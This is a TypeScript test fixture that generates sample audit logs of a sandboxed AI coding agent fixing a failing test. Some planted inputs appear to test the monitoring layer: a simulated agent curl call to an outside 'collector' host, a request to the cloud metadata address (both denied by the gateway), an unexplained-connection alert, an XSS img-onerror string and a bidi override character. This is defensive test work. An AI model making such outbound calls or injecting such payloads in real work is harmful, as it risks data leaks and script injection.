import { entryOf, extend, GENESIS } from '../../../shared/audit/chain.ts';
import type { Actor, EventData, EventType } from '../../../shared/protocol/events.ts';

/** An event as it comes over the stream, of any type. */
export interface WireEvent {
  readonly runId: string;
  readonly seq: number;
  readonly at: string;
  readonly type: string;
  readonly actor: string;
  readonly data: unknown;
  readonly nonce: string;
  readonly hash: string;
}

export const SAMPLE_RUN = 'run_01jx00000000000000000000aa';

/** Writes a log with a true hash chain. */
export function logWriter(runId = SAMPLE_RUN, start = Date.UTC(2026, 10, 22, 9, 0)) {
  const events: WireEvent[] = [];
  let at = start;
  const raw = (type: string, actor: Actor, data: unknown, afterMs = 400): WireEvent => {
    at += afterMs;
    const seq = events.length + 1;
    const nonce = seq.toString(16).padStart(32, '0');
    const plain = { runId, seq, at: new Date(at).toISOString(), type, actor, data, nonce };
    const event = { ...plain, hash: extend(events.at(-1)?.hash ?? GENESIS, entryOf(plain)) };
    events.push(event);
    return event;
  };
  const add = <T extends EventType>(type: T, actor: Actor, data: EventData<T>, afterMs?: number): WireEvent =>
    raw(type, actor, data, afterMs);
  return { events, add, raw };
}

const connection = (id: number, host: string, port = 443) => ({
  connection: `c${id}`,
  protocol: 'connect' as const,
  host,
  port,
});

const MESSAGE = `I found the cause: \`add()\` in **src/add.js** subtracts.

1. I change the sign,
2. run the tests,
3. and look whether *anything else* depends on it.

\`\`\`js
export const add = (a, b) => a + b;
\`\`\`

| file | result |
| --- | --- |
| src/add.js | fixed |
| src/sub.js | was right |

See [the documentation](https://example.com/docs). <img src=x onerror=alert(1)> is text.`;

/** A run that waits for an approval after having done a little of everything. */
export function sampleRun({ ended = false } = {}): WireEvent[] {
  const { events, add, raw } = logWriter();
  add('run.created', 'key:key_1', {
    prompt: 'The tests fail. Find out why, fix it, and publish the package.',
    title: 'Fix the failing tests and publish',
    agent: { id: 'claude', name: 'claude' },
    environment: { id: 'env_1', name: 'default' },
    source: { kind: 'upload', uploadId: 'upl_1' },
    network: { mode: 'allowlist', groups: ['git', 'packages'], patterns: [] },
    operatorExceptions: [],
    approval: 'ask',
    interactive: true,
    timeLimitSeconds: 3600,
    sandboxed: true,
  });
  add('run.state', 'server', { from: 'queued', to: 'preparing' });
  add('sandbox.ready', 'server', {
    sandboxId: 's1',
    runtime: 'caisson',
    kernel: 'gVisor (Linux version 4.4.0)',
    coldStartMs: 512,
  });
  add('git.ready', 'server', { base: 'd'.repeat(40), branch: 'caisson/fix-tests', files: 214 });
  add('sandbox.step', 'server', { step: 'setup', phase: 'started' });
  add('process.exec', 'kernel', {
    pid: 12,
    parentPid: 1,
    path: '/usr/bin/npm',
    argv: ['npm', 'ci'],
    cwd: '/workspace',
    uid: 10001,
  });
  add('egress.allowed', 'gateway', {
    ...connection(1, 'registry.npmjs.org'),
    address: '104.16.1.35',
    rule: 'groups.packages',
    reason: 'registry.npmjs.org is in the group «packages»',
  });
  add('process.exec', 'kernel', {
    pid: 13,
    parentPid: 12,
    path: '/usr/bin/node',
    argv: ['node', 'install.js', '--with spaces'],
    cwd: '/workspace/node_modules/esbuild',
    uid: 10001,
  });
  add('process.connect', 'kernel', { pid: 13, process: 'node', family: 'AF_INET', address: '127.0.0.1', port: 3128 });
  add('sandbox.output', 'server', {
    step: 'setup',
    stream: 'stdout',
    text: 'added 124 packages in 3s\n\u001b[32mfound 0 vulnerabilities\u001b[0m\n',
  });
  add('egress.closed', 'gateway', { connection: 'c1', sentBytes: 41_223, receivedBytes: 8_234_120, ms: 2890 });
  add('process.exit', 'kernel', { pid: 13, exitCode: 0 });
  add('process.exit', 'kernel', { pid: 12, exitCode: 0 });
  add('sandbox.step', 'server', { step: 'setup', phase: 'finished', exitCode: 0, ms: 3400 });
  add('run.state', 'server', { from: 'preparing', to: 'running' });
  add('agent.started', 'agent', { name: 'claude', version: '2.1.0', protocol: 'acp' });
  add('agent.thought', 'agent', { text: 'The user wants the tests to pass. I look at them first.' });
  const todo = ['Read the failing test', 'Fix the code', 'Run the tests', 'Publish'];
  const plan = (done: number) => ({
    entries: todo.map((content, i) => ({
      content,
      status: i < done ? 'completed' : i === done ? 'in_progress' : 'pending',
      priority: 'medium',
    })),
  });
  add('agent.plan', 'agent', plan(1));
  add('agent.tool_call', 'agent', {
    id: 't1',
    title: 'Read src/add.js',
    kind: 'read',
    status: 'completed',
    paths: ['src/add.js'],
  });
  add('agent.tool_call', 'agent', {
    id: 't2',
    title: 'npm test',
    kind: 'execute',
    status: 'in_progress',
    paths: [],
    input: { command: 'npm test' },
  });
  add('process.exec', 'kernel', {
    pid: 31,
    parentPid: 1,
    path: '/usr/bin/npm',
    argv: ['npm', 'test'],
    cwd: '/workspace',
    uid: 10001,
  });
  add('process.exec', 'kernel', {
    pid: 32,
    parentPid: 31,
    path: '/bin/sh',
    argv: ['sh', '-c', 'vitest run'],
    cwd: '/workspace',
    uid: 10001,
  });
  add('process.exec', 'kernel', {
    pid: 33,
    parentPid: 32,
    path: '/usr/bin/node',
    argv: ['node', 'node_modules/.bin/vitest', 'run'],
    cwd: '/workspace',
    uid: 10001,
  });
  add('process.exit', 'kernel', { pid: 33, exitCode: 1 });
  add('process.exit', 'kernel', { pid: 32, exitCode: 1 });
  add('agent.tool_result', 'agent', {
    id: 't2',
    status: 'failed',
    text: 'FAIL test/add.test.js\n  expected 3, received -1\n\n1 failed, 12 passed',
  });
  for (const text of MESSAGE.split(/(?<=\n)/)) add('agent.message', 'agent', { text }, 40);
  add('agent.tool_call', 'agent', {
    id: 't3',
    title: 'curl https://collector.example.net/report',
    kind: 'execute',
    status: 'in_progress',
    paths: [],
  });
  const refused = { rule: 'allowlist', reason: 'collector.example.net is on no list of this environment' };
  add('egress.denied', 'gateway', { ...connection(2, 'collector.example.net'), ...refused });
  add('egress.denied', 'gateway', {
    ...connection(3, '169.254.169.254', 80),
    protocol: 'http',
    method: 'GET',
    path: '/latest/meta-data',
    rule: 'address.link-local',
    reason: 'metadata addresses are never reachable',
  });
  add('agent.tool_result', 'agent', {
    id: 't3',
    status: 'completed',
    text: 'curl: (56) CONNECT tunnel failed, response 403',
  });
  add('agent.plan', 'agent', plan(3));
  raw('agent.mood', 'agent', { mood: 'confident', since: 12 });
  add('agent.stderr', 'agent', { text: 'warning: deprecated option\n' });
  add('approval.requested', 'agent', {
    approvalId: 'apr_1',
    toolCallId: 't4',
    title: 'npm publish --access public',
    kind: 'execute',
    input: { command: 'npm publish --access public', note: 'reads \u202ebackwards' },
    options: [
      { id: 'once', name: 'Allow once', kind: 'allow_once' },
      { id: 'always', name: 'Always allow', kind: 'allow_always' },
      { id: 'no', name: 'Reject', kind: 'reject_once' },
    ],
  });
  add('run.state', 'server', { from: 'running', to: 'waiting', waitingFor: 'approval' });
  if (!ended) return events;
  add('approval.resolved', 'key:key_1', { approvalId: 'apr_1', outcome: 'rejected', optionId: 'no', by: 'key:key_1' });
  add('run.state', 'server', { from: 'waiting', to: 'running' });
  add('run.message', 'key:key_1', { text: 'Do not publish; leave that to me.' });
  add('agent.message', 'agent', { text: 'Understood. The fix is on the branch.' });
  add('alert.raised', 'server', {
    rule: 'unexplained_connection',
    message: 'The kernel saw a connection that no tool call explains',
  });
  add('run.result', 'server', {
    patch: { files: 3, insertions: 14, deletions: 3, bytes: 900, sha256: 'a'.repeat(64), paths: ['src/add.js'] },
    commits: [{ id: 'b'.repeat(40), subject: 'Fix add' }],
    bundle: { bytes: 900, sha256: 'c'.repeat(64) },
    base: 'd'.repeat(40),
    branch: 'caisson/fix-tests',
    usage: {
      wallMs: 61_500,
      cpuMs: 9700,
      egressSentBytes: 41_223,
      egressReceivedBytes: 8_234_120,
      inputTokens: 18_220,
      outputTokens: 1204,
    },
  });
  add('sandbox.destroyed', 'server', {
    absent: { container: true, mount: true, loopDevice: true, socket: true },
    ms: 90,
  });
  add('run.state', 'server', { from: 'running', to: 'succeeded' });
  return events;
}

/** A long run: `count` events of every sort that comes in great number. */
export function longRun(count: number): WireEvent[] {
  const { events, add } = logWriter();
  const first = sampleRun()[0]!.data as EventData<'run.created'>;
  add('run.created', 'key:key_1', { ...first, title: `A run of ${count} events` });
  add('run.state', 'server', { from: 'queued', to: 'preparing' });
  add('run.state', 'server', { from: 'preparing', to: 'running' });
  for (let n = 0; events.length < count; n++) {
    const pid = 100 + (n % 30_000);
    add(
      'agent.tool_call',
      'agent',
      { id: `t${n}`, title: `step ${n}`, kind: 'execute', status: 'in_progress', paths: [] },
      20,
    );
    add(
      'process.exec',
      'kernel',
      { pid, parentPid: 1, path: '/bin/sh', argv: ['sh', '-c', `make part-${n}`], cwd: '/workspace', uid: 10001 },
      20,
    );
    add(
      'egress.allowed',
      'gateway',
      { ...connection(n, `host${n % 50}.example.com`), rule: 'groups.packages', reason: 'it is on the list' },
      20,
    );
    add('egress.closed', 'gateway', { connection: `c${n}`, sentBytes: n, receivedBytes: 10 * n, ms: 12 }, 20);
    add('process.exit', 'kernel', { pid, exitCode: n % 17 === 0 ? 1 : 0 }, 20);
    add(
      'agent.tool_result',
      'agent',
      { id: `t${n}`, status: 'completed', text: `part ${n}\n`.repeat(1 + (n % 9)) },
      20,
    );
    add('agent.message', 'agent', { text: `Part **${n}** is done.${'\n\nAnother paragraph.'.repeat(n % 4)}` }, 20);
  }
  return events.slice(0, count);
}
